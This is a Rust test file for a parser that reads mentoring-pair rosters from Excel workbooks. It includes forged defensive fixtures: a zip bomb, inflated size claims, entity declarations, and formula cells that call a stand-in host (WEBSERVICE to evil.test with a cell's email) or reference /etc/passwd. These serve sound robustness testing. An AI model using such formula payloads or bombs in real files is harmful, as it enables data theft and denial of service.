use std::io::Write as _;

use rust_xlsxwriter::{ExcelDateTime as Date, Format, Url, Workbook as Made};
use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;
use crate::{letters::Catalogue, sheet};

fn refused(bytes: &[u8]) -> String {
    Catalogue::english().say(&pages(bytes).unwrap_err())
}

fn made(write: impl FnOnce(&mut Made)) -> Vec<u8> {
    let mut workbook = Made::new();
    write(&mut workbook);
    workbook.save_to_buffer().unwrap()
}

/// A workbook of these parts, as a program of bad faith would write it.
fn zipped(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        let options = if *name == "mimetype" { stored } else { SimpleFileOptions::default() };
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;
const WORKBOOK: &str = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const RELATIONS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

const ROOT: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;

/// A workbook with that sheet, and these strings.
fn forged(sheet: &str, strings: Option<&str>) -> Vec<u8> {
    let mut parts = vec![
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", ROOT.as_bytes()),
        ("xl/workbook.xml", WORKBOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", RELATIONS.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    if let Some(strings) = strings {
        parts.push(("xl/sharedStrings.xml", strings.as_bytes()));
    }
    zipped(&parts)
}

fn cells(cells: &str) -> String {
    format!(
        r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{cells}</sheetData></worksheet>"#
    )
}

#[test]
fn a_workbook_as_staff_keep_it_is_understood() {
    let bytes = made(|workbook| {
        workbook.add_worksheet().set_name("Read me").unwrap().write(0, 0, "How we pair people").unwrap();
        let sheet = workbook.add_worksheet();
        sheet.set_name("Pairs").unwrap();
        let (bold, time, day) = (
            Format::new().set_bold(),
            Format::new().set_num_format("hh:mm"),
            Format::new().set_num_format("dddd"),
        );
        let date = Format::new().set_num_format("dd/mm/yyyy");
        sheet.merge_range(0, 0, 0, 8, "Mentoring 2027", &bold).unwrap();
        for (column, heading) in (1..).zip([
            "Mentor",
            "Mentor email",
            "Mentee",
            "Mentee email",
            "Day",
            "Time",
            "Mentee phone",
            "Introduced",
        ]) {
            sheet.write_with_format(2, column, heading, &bold).unwrap();
        }
        // One mentor over two rows, and an address that lies under a name.
        sheet.merge_range(4, 1, 5, 1, "Ada Lovelace", &bold).unwrap();
        sheet.merge_range(4, 2, 5, 2, "ada@people.test", &bold).unwrap();
        for (row, name, address, weekday, slot, phone) in [
            (4, "Sam Jones", "sam@people.test", "2027-01-12", "18:00:00", 442_079_460_000.0),
            (5, "Kim Lee", "kim@people.test", "2027-01-13", "09:05:00", 15_551_234.0),
        ] {
            sheet.write(row, 3, name).unwrap();
            sheet.write_url(row, 4, Url::new(format!("mailto:{address}")).set_text(address)).unwrap();
            sheet.write_with_format(row, 5, Date::parse_from_str(weekday).unwrap(), &day).unwrap();
            sheet.write_with_format(row, 6, Date::parse_from_str(slot).unwrap(), &time).unwrap();
            sheet.write(row, 7, phone).unwrap();
        }
        sheet.write_with_format(5, 8, Date::parse_from_str("2026-11-03").unwrap(), &date).unwrap();
        sheet.write(9, 1, "Grace Hopper").unwrap();
        sheet.write(9, 2, "grace@people.test").unwrap();
        sheet.write_url(9, 3, Url::new("mailto:lee@people.test").set_text("Lee")).unwrap();
        sheet.write(9, 12, "a word at the side").unwrap();
        sheet.write(11, 1, "Last looked at by Rosa").unwrap();
    });
    let sheet = sheet::read(&bytes).unwrap();
    assert_eq!((sheet.name.as_deref(), sheet.form), (Some("Pairs"), "Excel workbook"));
    let shown = sheet.to_string();
    let rows: Vec<&str> = shown.lines().filter(|line| line.starts_with("line")).collect();
    assert_eq!(
        rows,
        [
            "line 5: Ada Lovelace <ada@people.test> mentors Sam Jones <sam@people.test>, Tue 18:00",
            "line 6: Ada Lovelace <ada@people.test> mentors Kim Lee <kim@people.test>, Wed 09:05",
            "line 10: Grace Hopper <grace@people.test> mentors Lee <lee@people.test>",
            "line 12: taken for a note: Last looked at by Rosa",
        ],
        "{shown}"
    );
    let kim = sheet.rows[1].said.clone().unwrap();
    assert_eq!(kim.introduced, Some("2026-11-03".parse().unwrap()));
    assert_eq!(kim.mentees.says().unwrap()[0].phone.as_deref(), Some("15551234"));
    let sam = sheet.rows[0].said.clone().unwrap();
    assert_eq!(sam.mentees.says().unwrap()[0].phone.as_deref(), Some("442079460000"));
}

#[test]
fn a_time_a_date_and_an_error_are_what_a_person_sees() {
    use calamine::ExcelDateTimeType::{DateTime, TimeDelta};
    for (value, kind, shown) in [
        (0.75, DateTime, "18:00"),
        (0.0, DateTime, "00:00"),
        (0.999_999_99, DateTime, "23:59"),
        (46_399.0, DateTime, "2027-01-12"),
        (46_399.75, DateTime, "2027-01-12 18:00"),
        (0.75, TimeDelta, "18:00"),
        (-5.0, DateTime, "1899-12-31"),
        (f64::NAN, DateTime, ""),
        (1e300, DateTime, "9999-12-31"),
    ] {
        assert_eq!(date_words(&ExcelDateTime::new(value, kind, false)), shown, "{value}");
    }
    let error = forged(&cells(r#"<row r="1"><c r="A1" t="e"><v>#N/A</v></c></row>"#), None);
    assert_eq!(pages(&error).unwrap()[0].grid.lines[0].cells, ["#N/A"]);
}

#[test]
fn a_bomb_is_refused_before_it_goes_off() {
    let zeros = vec![b' '; 70 * 1024 * 1024];
    let bomb = zipped(&[("[Content_Types].xml", TYPES.as_bytes()), ("xl/media/a.bin", &zeros)]);
    assert!(bomb.len() < 200_000);
    assert!(refused(&bomb).contains("becomes larger than 64 MB"));
    // Memory is set aside for as many strings as are claimed.
    for claim in ["99999999999999999", "4000000000", "18446744073709551616"] {
        for said in [format!("uniqueCount=\"{claim}\""), format!("uniqueCount = '{claim}'")] {
            let strings = format!("<sst {said}><si><t>a</t></si></sst>");
            let wrong = refused(&forged(&cells(""), Some(&strings)));
            assert!(wrong.contains("claims more text than it holds"), "{wrong}");
        }
    }
    // The same claim in letters that are not looked at would not be seen.
    let strings = "<sst uniqueCount=\"99999999999999999\"/>";
    let utf16: Vec<u8> =
        std::iter::once(0xfeff).chain(strings.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let declared =
        format!("<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?>{strings}").replace("que", "q\u{1b}(Jue");
    for strings in
        [utf16.as_slice(), declared.as_bytes(), b"<sst>\xff</sst>", b"<!DOCTYPE a [<!ENTITY b 'c'>]><sst/>"]
    {
        let bytes = zipped(&[("[Content_Types].xml", TYPES.as_bytes()), ("xl/sharedStrings.xml", strings)]);
        assert!(refused(&bytes).contains("not written as Excel writes one"));
    }
    let many: Vec<(String, &[u8])> = (0..2_001).map(|n| (format!("xl/{n}.bin"), b"".as_slice())).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), *bytes)).collect();
    assert!(refused(&zipped(&many)).contains("2001 parts"));
}

#[test]
fn cells_far_apart_and_text_repeated_cost_what_they_hold() {
    let corners =
        r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="B1048576"><v>2</v></c></row>"#;
    let page = pages(&forged(&cells(corners), None)).unwrap().remove(0);
    assert_eq!(page.grid.lines.iter().map(|line| line.number).collect::<Vec<_>>(), [1, 1_048_576]);
    let wide = refused(&forged(&cells(r#"<row r="1"><c r="XFD1"><v>1</v></c></row>"#), None));
    assert!(wide.contains("more than 200 columns"), "{wide}");
    let tall: String =
        (1..=20_001).map(|n| format!(r#"<row r="{n}"><c r="A{n}"><v>1</v></c></row>"#)).collect();
    assert!(refused(&forged(&cells(&tall), None)).contains("more than 20000 rows"));
    // One long text that thousands of cells point to.
    let strings = format!("<sst><si><t>{}</t></si></sst>", "x".repeat(1_000_000));
    let many: String =
        (1..=4_000).map(|n| format!(r#"<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>"#)).collect();
    assert!(refused(&forged(&cells(&many), Some(&strings))).contains("more than 32 MB of text"));
    let one =
        pages(&forged(&cells(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#), Some(&strings))).unwrap();
    assert_eq!(one[0].grid.lines[0].cells[0].len(), LONGEST_CELL + 1);
    // Merged over everything, many times.
    let merged: String = (0..500).map(|_| r#"<mergeCell ref="A1:XFD1048576"/>"#).collect();
    let rows: String =
        (1..=10_000).map(|n| format!(r#"<row r="{n}"><c r="A{n}"><v>1</v></c></row>"#)).collect();
    let sheet =
        cells(&rows).replace("</worksheet>", &format!("<mergeCells>{merged}</mergeCells></worksheet>"));
    assert_eq!(pages(&forged(&sheet, None)).unwrap()[0].grid.lines.len(), 10_000);
}

#[test]
fn a_damaged_workbook_is_a_sentence_and_never_a_panic() {
    let good = made(|workbook| {
        let sheet = workbook.add_worksheet();
        for row in 0..20 {
            sheet.write(row, 0, format!("cell {row}")).unwrap();
        }
    });
    for cut in (0..good.len()).step_by(97) {
        let _ = pages(&good[..cut]);
        let mut bent = good.clone();
        bent[cut] ^= 0x55;
        let _ = pages(&bent);
    }
    for sheet in [
        "",
        "<worksheet>",
        "<worksheet><sheetData><row r=\"99999999999\"><c r=\"ZZZZZZZZZ99999999999\"><v>1</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><row><c r=\"A0\"><v>1</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><row><c t=\"s\"><v>7</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><row><c r=\"A1\" s=\"99999\" t=\"n\"><v>x</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><c><is><t>&undefined;</t></is></c></sheetData></worksheet>",
    ] {
        for strings in [None, Some("<sst><si><t>a"), Some("<sst><si/></sst>")] {
            match pages(&forged(sheet, strings)) {
                Ok(_) => {}
                Err(wrong) => {
                    let said = Catalogue::english().say(&wrong);
                    assert!(!said.contains('\n') && said.len() < 400, "{said}");
                }
            }
        }
    }
}

#[test]
fn what_is_no_workbook_says_what_would_be_right() {
    let ods = zipped(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]);
    for (bytes, said) in [
        (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 and more".to_vec(), "save it as .xlsx"),
        (ods, "OpenDocument"),
        (b"%PDF-1.7".to_vec(), "no spreadsheet"),
        (b"\x89PNG\r\n".to_vec(), "no spreadsheet"),
        (b"a\0b\0\0\0\xff\xfe\0\0\0".to_vec(), "no spreadsheet"),
        (b"PK\x03\x04 not really".to_vec(), "cannot be read"),
    ] {
        let wrong = Catalogue::english().say(&sheet::read(&bytes).unwrap_err());
        assert!(wrong.contains(said), "{wrong}");
    }
}

/// A row of cells, a text each.
fn put(sheet: &mut rust_xlsxwriter::Worksheet, row: u32, cells: &[&str]) {
    for (column, cell) in (0..).zip(cells) {
        sheet.write(row, column, *cell).unwrap();
    }
}

const PAIRS: [[&str; 6]; 4] = [
    ["Mentor", "Mentor email", "Mentee", "Mentee email", "Weekly", "Notes"],
    ["Ada Lovelace", "ada@people.test", "Sam Jones", "sam@people.test", "Tue 18:00", "tea"],
    ["Old Hand", "old@people.test", "Gone Away", "gone@people.test", "Tue 18:00", ""],
    ["Bo Ek", "bo@people.test", "Lee Ng", "lee@people.test", "Wed 10:00", ""],
];

fn pairs(sheet: &mut rust_xlsxwriter::Worksheet) {
    for (row, cells) in (0..).zip(PAIRS) {
        put(sheet, row, &cells);
    }
}

#[test]
fn what_does_not_show_is_left_out_and_counted() {
    let bytes = made(|workbook| {
        let sheet = workbook.add_worksheet();
        pairs(sheet);
        put(sheet, 4, &["", "", "", "", "Fri 9:00"]);
        sheet.set_row_hidden(2).unwrap().set_row_hidden(4).unwrap();
        sheet.set_column_hidden(5).unwrap();
        sheet.autofilter(0, 0, 4, 5).unwrap();
    });
    let sheet = sheet::read(&bytes).unwrap();
    assert_eq!(sheet.rows.iter().map(|row| row.line).collect::<Vec<_>>(), [2, 4]);
    assert_eq!(sheet.hidden, (1, vec!["Notes".to_owned()]));
    let said = sheet.rows[0].said.clone().unwrap();
    assert_eq!(said.background, crate::planning::roster::sheet::Cell::Silent);
    // What nobody can be paired without is asked for.
    let bytes = made(|workbook| {
        let sheet = workbook.add_worksheet();
        pairs(sheet);
        sheet.set_column_hidden(3).unwrap();
        sheet.set_column_hidden(2).unwrap();
    });
    let wrong = Catalogue::english().say(&sheet::read(&bytes).unwrap_err());
    assert!(wrong.starts_with("The columns \"Mentee\", \"Mentee email\" are hidden"), "{wrong}");
}

#[test]
fn other_sheets_that_hold_pairings_are_named() {
    let bytes = made(|workbook| {
        workbook.add_worksheet().set_name("Read me").unwrap().write(0, 0, "How we pair people").unwrap();
        put(workbook.add_worksheet().set_name("Empty").unwrap(), 0, &PAIRS[0]);
        for name in ["Spring", "Autumn", "Old"] {
            let sheet = workbook.add_worksheet();
            sheet.set_name(name).unwrap().set_hidden(name == "Old");
            pairs(sheet);
        }
        put(workbook.add_worksheet().set_name("Template").unwrap(), 0, &PAIRS[0]);
        put(workbook.add_worksheet().set_name("Hours").unwrap(), 0, &["Name", "Hours"]);
    });
    let sheet = sheet::read(&bytes).unwrap();
    assert_eq!((sheet.name.as_deref(), sheet.rows.len()), (Some("Spring"), 3));
    assert_eq!(sheet.others, ["Autumn"]);
}

#[test]
fn numbers_keep_the_zeros_that_they_are_shown_with() {
    let bytes = made(|workbook| {
        let sheet = workbook.add_worksheet();
        put(sheet, 0, &["Mentor", "Mentor email", "Mentor phone", "Mentee", "Mentee email", "Mentee phone"]);
        for (row, format) in (1..).zip(["00000000000", "00000 000000", "General", "@"]) {
            let (mentor, mentee) = (format!("m{row}@people.test"), format!("s{row}@people.test"));
            put(sheet, row, &["Ada Lovelace", &mentor, "", "Sam Jones", &mentee]);
            let format = Format::new().set_num_format(format);
            sheet.write_with_format(row, 2, 7_911_123_456_u64, &format).unwrap();
            sheet.write(row, 5, "07911 123456").unwrap();
        }
    });
    let sheet = sheet::read(&bytes).unwrap();
    let phone = |row: usize| {
        let said = sheet.rows[row].said.clone().unwrap();
        (
            said.mentors.says().unwrap()[0].phone.clone().unwrap(),
            said.mentees.says().unwrap()[0].phone.clone().unwrap(),
        )
    };
    let shown: Vec<String> = (0..4).map(|row| phone(row).0).collect();
    assert_eq!(shown, ["07911123456", "07911 123456", "7911123456", "7911123456"]);
    assert!((0..4).all(|row| phone(row).1 == "07911 123456"));
}

#[test]
fn an_address_lies_in_a_link_and_a_place_behind_one() {
    let bytes = made(|workbook| {
        let sheet = workbook.add_worksheet();
        put(sheet, 0, &["Mentor", "Mentor email", "Mentee", "Mentee email", "Place"]);
        for (row, mentor, mentee) in [
            (1, "mailto:ada%2Btest@people.test", "mailto:sam@people.test?subject=Hi"),
            (2, "mailto:bo%40people.test", "mailto:lee@people.test"),
        ] {
            sheet.write(row, 0, "Ada Lovelace").unwrap();
            sheet.write_url(row, 1, Url::new(mentor).set_text("write to them")).unwrap();
            sheet.write(row, 2, "Sam Jones").unwrap();
            sheet.write_url(row, 3, Url::new(mentee).set_text("mail")).unwrap();
            sheet.write_url(row, 4, Url::new(format!("https://meet.test/{row}")).set_text("Join")).unwrap();
        }
        put(sheet, 3, &["Cy Ode"]);
        sheet
            .write_formula(
                3,
                1,
                rust_xlsxwriter::Formula::new("HYPERLINK(\"mailto:cy@people.test\",\"Cy\")").set_result("Cy"),
            )
            .unwrap();
        sheet.write(3, 2, "Mo Ito").unwrap();
        sheet
            .write_formula(
                3,
                3,
                rust_xlsxwriter::Formula::new("HYPERLINK(\"mailto:mo@people.test\")").set_result(""),
            )
            .unwrap();
        sheet
            .write_formula(
                3,
                4,
                rust_xlsxwriter::Formula::new("HYPERLINK(\"https://meet.test/3\",\"Join\")")
                    .set_result("Join"),
            )
            .unwrap();
    });
    let shown = sheet::read(&bytes).unwrap().to_string();
    let rows: Vec<&str> = shown.lines().filter(|line| line.starts_with("line")).collect();
    assert_eq!(
        rows,
        [
            "line 2: Ada Lovelace <ada+test@people.test> mentors Sam Jones <sam@people.test>, https://meet.test/1",
            "line 3: Ada Lovelace <bo@people.test> mentors Sam Jones <lee@people.test>, https://meet.test/2",
            "line 4: Cy Ode <cy@people.test> mentors Mo Ito <mo@people.test>, https://meet.test/3",
        ],
        "{shown}"
    );
}

#[test]
fn formulas_without_a_result_and_links_to_files_are_text_and_said() {
    let sheet = cells(
        r#"<row r="1"><c r="A1" t="inlineStr"><is><t>Mentor</t></is></c><c r="B1" t="inlineStr"><is><t>Mentor email</t></is></c><c r="C1" t="inlineStr"><is><t>Mentee</t></is></c><c r="D1" t="inlineStr"><is><t>Mentee email</t></is></c></row>
        <row r="2"><c r="A2"><f>WEBSERVICE("http://evil.test/"&amp;B2)</f></c><c r="B2" t="inlineStr"><is><t>ada@people.test</t></is></c><c r="C2" t="inlineStr"><is><t>Sam</t></is></c><c r="D2" t="inlineStr"><is><t>sam@people.test</t></is></c></row>
        <row r="3"><c r="A3" t="inlineStr"><is><t>Bo</t></is></c><c r="B3"><f>'[file:///etc/passwd]S'!A1</f></c><c r="C3" t="inlineStr"><is><t>Lee</t></is></c><c r="D3" t="inlineStr"><is><t>lee@people.test</t></is></c></row>
        <row r="4"><c r="A4" t="inlineStr"><is><t>Bo</t></is></c><c r="B4"><f>HYPERLINK("file:///C:/bo@people.test","bo")</f></c><c r="C4" t="inlineStr"><is><t>Lee</t></is></c><c r="D4" t="inlineStr"><is><t>lee@people.test</t></is></c></row>"#,
    );
    let read = sheet::read(&forged(&sheet, None)).unwrap();
    let said: Vec<String> =
        read.rows.iter().map(|row| Catalogue::english().say(&row.said.clone().unwrap_err())).collect();
    assert_eq!(said.len(), 3);
    assert_eq!(said[0], "the mentor's name \"=WEBSERVICE(\"http://evil.test/\"&B2)\" is a formula");
    assert!(said[1].contains("\"='[file:///etc/passwd]S'!A1\" is not a mail address"), "{}", said[1]);
    assert!(said[2].contains("has no address") || said[2].contains("is not a mail address"), "{}", said[2]);
}

#[test]
fn markings_that_lie_hide_nothing_and_break_nothing() {
    let row = r#"<row r="1"><c r="A1"><v>1</v></c></row>"#;
    for odd in [
        r#"<cols><col min="1" max="4294967295" hidden="1"/></cols>"#,
        r#"<cols><col min="99" max="3" hidden="1"/><col hidden="1"/><col min="x" max="y" hidden="true"/></cols>"#,
        "<cols><col",
        "<!-- <row r=\"1\" hidden=\"1\"/> -->",
    ] {
        let sheet = cells(row).replace("<sheetData>", &format!("{odd}<sheetData>"));
        let _ = pages(&forged(&sheet, None));
    }
    for row in [
        r#"<row r="0" hidden="1"><c r="A1"><v>1</v></c></row>"#,
        r#"<row r="99999999999" hidden="1"><c r="A1" s="99999999999999999999"><f>A1</f></c></row>"#,
        r#"<row hidden="maybe"><c r="ÄÖ1"><f>&unknown;</f><v>1</v></c></row>"#,
    ] {
        let _ = pages(&forged(&cells(row), None));
    }
    // Many formulas, each as long as may be.
    let formula = "A".repeat(9_000);
    let rows: String =
        (1..=2_000).map(|n| format!(r#"<row r="{n}"><c r="A{n}"><f>{formula}</f></c></row>"#)).collect();
    let page = pages(&forged(&cells(&rows), None)).unwrap().remove(0);
    assert!(page.grid.lines.iter().all(|line| line.cells[0].len() <= 2_001));
}
